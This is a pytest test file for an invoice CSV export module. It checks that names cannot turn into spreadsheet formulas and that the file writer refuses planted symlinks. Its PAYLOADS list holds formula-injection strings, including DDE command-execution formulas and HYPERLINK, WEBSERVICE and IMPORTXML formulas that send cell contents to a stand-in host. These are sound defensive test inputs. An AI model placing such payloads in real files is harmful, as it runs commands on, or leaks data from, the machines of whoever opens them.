"""Exports: nothing that a spreadsheet executes, numbers that stay numbers, no file but those that were meant."""

from __future__ import annotations

import csv
import io
import stat
from decimal import Decimal
from pathlib import Path

import pytest

from orchestration.canonical import canonical_bytes, sha256_hex
from orchestration.durable import Point
from orchestration.errors import IntegrityFailure
from orchestration.exports.csvfiles import expected_exports, export_invoices, write_export
from orchestration.exports.safecsv import number_cell, render, text_cell
from orchestration.ledger.rows import DocumentRow
from orchestration.ledger.store import Ledger

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?d="&A1,"open")',
    '=WEBSERVICE("http://x.example")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\x00=1+1",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\ufeff =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '=1+1";=2+2',
    '="a"\r\n="b"',
    "=1,=2",
    '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    " \t=1+1",
    "\u200b\n@A1",
]


def parsed(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline=""), strict=True))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_name_becomes_a_formula_a_second_cell_or_a_second_row(payload: str) -> None:
    data = render({"name": "text", "amount": "number"}, [[payload, "1.00"]])
    header, row = parsed(data)
    assert (header, len(row), row[1]) == (["name", "amount"], 2, "1.00")
    assert row[0].startswith("'")
    assert not {"\r", "\n", "\0"} & set(row[0])
    assert data.count(b"\r\n") == 2 and data.count(b"\n") == 2


def test_harmless_text_is_left_as_it_is_and_always_quoted() -> None:
    for text in ("Müller & Söhne", 'a "b" c', "a,b;c", "3-5", "x=1", "みかん", "", "'quoted"):
        assert parsed(render({"c": "text"}, [[text], ["z"]]))[1] == ([text] if text else [""])
        assert text_cell(text).startswith('"') and text_cell(text).endswith('"')


def test_a_credit_stays_a_number() -> None:
    assert number_cell("-5.00") == "-5.00"
    assert number_cell(Decimal("-0.000000001")) == "-0.000000001"
    assert number_cell(Decimal("1E+3")) == "1000"
    assert render({"amount": "number"}, [["-5.00"]]) == b'"amount"\r\n-5.00\r\n'


@pytest.mark.parametrize("value", ["", "=1", "1,5", "1e3", "NaN", "+1", " 1", "1\n", "--1", "1.", "٣"])
def test_a_number_cell_holds_nothing_but_a_number(value: str) -> None:
    with pytest.raises(ValueError, match="not a plain decimal"):
        number_cell(value)


def document(number: str, name: str, amount: str = "-5.00") -> DocumentRow:
    line = {
        "position": "1", "kind": "usage", "customer": "c", "subscription": "s", "plan": "p", "charge": "x",
        "name": name, "meter": None, "start": "2026-10-01", "end": "2026-11-01", "quantity": "1", "unit": "u",
        "currency": "USD", "amount": amount,
        "gross": amount, "discount": "0.00", "excess": "0.00", "top_up": "0.00", "tax_category": "standard",
    }  # fmt: skip
    body = {
        "number": number, "kind": "invoice", "currency": "USD", "issue_date": "2026-11-05", "due_date": "2026-12-05",
        "cut_off": "2026-11-01", "service_start": "2026-10-01", "service_end": "2026-11-01", "subtotal": amount,
        "coupon_total": "0.00", "promotional_total": "0.00", "tax": "0.00", "total": amount, "amount_due": amount,
        "credit_note_total": "0.00", "prepaid_total": "0.00", "lines": [line],
        "seller": {"entity": "e"}, "buyer": {"customer": "c", "name": name, "country": "XX", "tax_id": name},
    }  # fmt: skip
    data = canonical_bytes(body)
    return DocumentRow(
        number, "INV-2026", 1, "invoice", "e", "c", "USD", "2026-11-01", "2026-11-05", 1, data, sha256_hex(data)
    )


def test_a_whole_export_guards_every_text_and_keeps_the_raw_name_in_the_machine_copy() -> None:
    row = document("INV-2026-000001", "=cmd|' /C calc'!A0")
    files = {path.as_posix(): data for path, data in expected_exports([row]).items()}
    assert sorted(files) == [
        "2026-11-01/documents/INV-2026-000001.json",
        "2026-11-01/invoice_lines.csv",
        "2026-11-01/invoices.csv",
    ]
    (invoice,) = csv.DictReader(io.StringIO(files["2026-11-01/invoices.csv"].decode(), newline=""))
    assert invoice["customer_name"] == invoice["tax_id"] == "'=cmd|' /C calc'!A0"
    assert invoice["total"] == "-5.00"
    (line,) = csv.DictReader(io.StringIO(files["2026-11-01/invoice_lines.csv"].decode(), newline=""))
    assert (line["description"], line["amount"]) == ("'=cmd|' /C calc'!A0", "-5.00")
    assert files["2026-11-01/documents/INV-2026-000001.json"] == row.body


def test_a_link_planted_at_the_target_is_replaced_and_never_followed(tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("precious")
    target = tmp_path / "out" / "invoices.csv"
    target.parent.mkdir()
    target.symlink_to(victim)
    (target.parent / ".invoices.csv.tmp").symlink_to(victim)
    write_export(target, b"data")
    assert victim.read_text() == "precious"
    assert not target.is_symlink() and target.read_bytes() == b"data"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert sorted(p.name for p in target.parent.iterdir()) == ["invoices.csv"]


@pytest.mark.parametrize("planted", ["2026-11-01", "2026-11-01/documents"])
def test_a_linked_folder_in_the_exports_is_refused_and_nothing_is_written_behind_it(
    planted: str, tmp_path: Path
) -> None:
    victim, out = tmp_path / "victim", tmp_path / "out"
    victim.mkdir()
    (out / planted).parent.mkdir(parents=True)
    (out / planted).symlink_to(victim)
    with Ledger.open(tmp_path / "home") as ledger:
        row = document("INV-2026-000001", "A")
        with ledger.transaction(Point.CLOSE_COMMITTED):
            ledger.append_journal("close", b"{}")
            ledger.insert_document(row)
        with pytest.raises(IntegrityFailure, match="link"):
            export_invoices(ledger, out)
    assert list(victim.iterdir()) == []


def test_F51_a_file_that_is_right_is_not_written_again_and_a_wrong_one_is_restored(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    write_export(path, b"one")
    inode = path.stat().st_ino
    write_export(path, b"one")
    assert path.stat().st_ino == inode
    path.write_bytes(b"edited")
    write_export(path, b"one")
    assert path.read_bytes() == b"one"
